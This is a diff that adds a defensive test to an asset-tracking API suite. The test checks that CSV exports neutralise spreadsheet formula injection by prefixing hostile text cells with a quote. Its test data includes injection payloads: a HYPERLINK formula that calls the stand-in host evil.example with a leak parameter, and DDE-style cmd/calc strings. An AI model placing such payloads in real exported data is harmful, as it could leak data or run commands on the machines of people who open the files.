@@ -106,3 +106,82 @@ test('refusals: a range over EXPORT_MAX_DAYS, GeoJSON of what has no places, an 
   assert.equal(geo.body.field, '/format');
   assert.equal((await get('/locations?format=xml')).status, 400);
 });
+
+test('formula injection: every CSV path writes a hostile text cell with a leading quote, and numbers as numbers', async () => {
+  const h = await customer(ta, 'hostile', { base: '/api/v1' });
+  const assetName = '=HYPERLINK("http://evil.example/?leak=1","open me")';
+  const zoneName = "+cmd|' /C calc'!A0";
+  const sensorId = '@SUM(1+1)*cmd';
+  const sensorText = '-2+3+cmd|calc';
+  const a = await h.asset(assetName);
+  ok(
+    await h.call('POST', '/zones', {
+      name: zoneName,
+      circle: { latitude: -33.9, longitude: 151.2, radiusMeters: 1000 },
+      enterAfterSeconds: 0,
+      leaveAfterSeconds: 0,
+    }),
+    201,
+  );
+  ok(
+    await h.call('POST', '/locations', [
+      { assetId: a, latitude: -33.5, longitude: 151.2, whenCreated: at(40) },
+      { assetId: a, latitude: -33.9, longitude: 151.2, whenCreated: at(30) },
+      { assetId: a, latitude: -33.9, longitude: 151.2, zoneId: '=1+1', whenCreated: at(25) },
+      { assetId: a, latitude: -33.5, longitude: 151.2, whenCreated: at(20) },
+    ]),
+    201,
+  );
+  ok(
+    await h.call('POST', '/sensor-data', [
+      { assetId: a, sensorId, type: 'TEMPERATURE', value: -18.5, whenCreated: at(30) },
+      { assetId: a, sensorId: '\tTAB', type: 'TEMPERATURE', value: sensorText, whenCreated: at(29) },
+      { assetId: a, sensorId: 'plain', type: 'TEMPERATURE', value: '-5', whenCreated: at(28) },
+    ]),
+    201,
+  );
+  ok(await h.call('POST', '/reefer-data', { assetId: a, data: { note: '=1+1', supplyAirTemperature: -20.5 } }), 201);
+  const range = `from=${encodeURIComponent(at(60))}&to=${encodeURIComponent(at(0))}`;
+  const paths = [
+    ...['/locations', '/sensor-data', '/reefer-data', '/events', '/notifications', '/commands'].map((p) => `${p}?format=csv`),
+    ...['summary', 'zones', 'trips', 'stops', 'temperature'].map((k) => `/reports/${k}?assetId=${a}&${range}&format=csv`),
+  ];
+  const files: Record<string, Record<string, string>[]> = {};
+  for (const path of paths) {
+    const r = await h.call('GET', path);
+    assert.equal(r.status, 200, `${path}: ${r.raw.slice(0, 300)}`);
+    const rows = parse(r.raw, { columns: true }) as Record<string, string>[];
+    for (const [n, row] of rows.entries()) {
+      for (const [name, cell] of Object.entries(row)) {
+        // A spreadsheet reads a cell as a formula when it starts so; a number is not one.
+        const formula = /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(cell);
+        assert.ok(!formula, `${path} row ${n} ${name}: ${JSON.stringify(cell)}`);
+      }
+    }
+    files[path.slice(0, path.indexOf('?'))] = rows;
+  }
+  const summary = files['/reports/summary']!;
+  assert.equal(summary[0]!.assetName, `'${assetName}`);
+  assert.equal(files['/reports/zones']![0]!.zoneName, `'${zoneName}`);
+  const sensors = files['/sensor-data']!;
+  assert.deepEqual(
+    sensors.map((s) => [s.sensorId, s.value]),
+    [
+      [`'${sensorId}`, '-18.5'],
+      ["'\tTAB", `'${sensorText}`],
+      ['plain', '-5'],
+    ],
+    'hostile sensor ids and text values neutralised; numbers (and a number sent as text) unchanged',
+  );
+  const locations = files['/locations']!;
+  assert.ok(
+    locations.some((l) => l.latitude === '-33.9' && l.zoneId === "'=1+1"),
+    JSON.stringify(locations),
+  );
+  assert.ok(locations.every((l) => l.longitude === '151.2'));
+  assert.ok(
+    files['/reports/stops']!.every((s) => Number(s.latitude) < -33),
+    'a negative latitude stays a number',
+  );
+  assert.deepEqual(JSON.parse(files['/reefer-data']![0]!.data!), { note: '=1+1', supplyAirTemperature: -20.5 }, 'JSON text as it was');
+});
